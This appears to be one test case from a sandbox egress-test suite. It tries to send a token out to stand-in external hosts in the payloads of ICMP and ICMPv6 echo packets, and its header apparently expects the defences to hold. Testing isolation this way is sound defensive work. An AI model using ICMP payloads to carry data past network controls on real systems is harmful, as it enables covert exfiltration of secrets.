# SPDX-License-Identifier: GPL-2.0-or-later
# row: A5
# what: ICMP and ICMPv6 echo with a payload
# defences: hold
import socket

from attempt import TOKEN, WORLD4, WORLD6, send

send(WORLD4, 0, socket.SOCK_DGRAM, socket.IPPROTO_ICMP, data=b"\x08\0\0\0\0\0\0\0" + TOKEN)
send(WORLD6, 0, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6, data=b"\x80\0\0\0\0\0\0\0" + TOKEN)
